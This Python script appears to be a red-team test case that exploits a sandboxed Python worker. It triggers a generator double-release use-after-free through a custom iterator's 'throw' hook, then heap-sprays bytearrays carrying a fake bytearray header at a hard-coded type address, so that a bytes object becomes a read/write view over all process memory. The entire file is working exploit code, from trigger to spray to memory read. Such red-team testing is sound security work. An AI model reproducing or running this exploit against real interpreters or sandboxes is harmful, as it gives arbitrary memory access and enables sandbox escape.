# technique: case 586's double release with the freed local's block reclaimed by a bytearray buffer holding a fake bytearray header: keep[0] becomes a bytearray over all memory (red-team pass 70)
# expect: any
import struct
BA_TYPE = 0x1001d00   # &PyByteArray_Type in this non-PIE safepy-worker (nm)
class D:
    def __iter__(self):
        return self
    def __next__(self):
        return 1
    def __getattr__(self, name):
        if name == "throw":
            G.close()
            def throw(*a):
                raise ValueError("x")
            return throw
        raise AttributeError(name)
keep = [bytes(14) + b"V"]          # 48-byte block (33 + 15)
def g(v):
    yield from D()
G = g(keep[0])
next(G)
fake = struct.pack("<QQQQQQ", 1 << 40, BA_TYPE, 1 << 62, (1 << 62) + 1, 0, 0)[:47]
spray = [None] * 300
try:
    G.throw(KeyError)
except ValueError:
    for i in range(300):
        spray[i] = bytearray(fake)   # buffers of 48 bytes
mem = keep[0]
print(type(mem).__name__, len(mem))
print(bytes(mem[0x400000:0x400004]))
if type(mem) is not bytes:
    raise RuntimeError('use-after-free: a fake object')
